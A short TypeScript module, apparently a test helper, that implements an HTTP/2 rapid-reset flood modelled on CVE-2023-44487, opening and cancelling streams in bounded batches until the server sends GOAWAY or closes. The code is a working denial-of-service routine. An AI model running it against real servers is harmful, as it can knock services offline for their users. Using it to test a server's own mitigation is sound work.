/**
 * An HTTP/2 rapid-reset flood (CVE-2023-44487's shape) from one client session: streams opened
 * and cancelled right after their HEADERS, in batches, until the server sends GOAWAY or closes
 * the session, or `max` streams were sent. Bounded in count; stops by itself. Used against
 * https (h2) and http (h2c) listeners alike.
 */
import { once } from 'node:events';
import { constants as h2, type ClientHttp2Session } from 'node:http2';

export interface FloodResult {
  /** Streams opened (and reset) before the session ended. */
  sent: number;
  /** The GOAWAY's error code, or null when none came. */
  goawayCode: number | null;
}

export interface FloodOptions {
  /** At most this many streams. @default 1000 */
  max?: number;
  /** Streams per batch. @default 20 */
  batch?: number;
  /** Awaited after each batch (`sent` so far): a pause, or another client's request meanwhile. @default setImmediate */
  between?: (sent: number) => Promise<void>;
}

export async function floodResets(session: ClientHttp2Session, options: FloodOptions = {}): Promise<FloodResult> {
  const { max = 1000, batch = 20, between = () => new Promise<void>((resolve) => setImmediate(resolve)) } = options;
  let goawayCode: number | null = null;
  session.on('goaway', (code: number) => (goawayCode = code));
  // Not once(session, 'close'): that rejects on the session's error, which a GOAWAY may bring.
  const closed = new Promise((resolve) => session.once('close', resolve));
  await once(session, 'connect');
  let sent = 0;
  while (sent < max && !session.closed && !session.destroyed && goawayCode === null) {
    for (let i = 0; i < batch && !session.closed && !session.destroyed; i++, sent++) {
      const req = session.request({ ':path': `/r${sent}` });
      req.on('error', () => {});
      req.close(h2.NGHTTP2_CANCEL);
    }
    await between(sent);
  }
  await closed;
  return { sent, goawayCode };
}
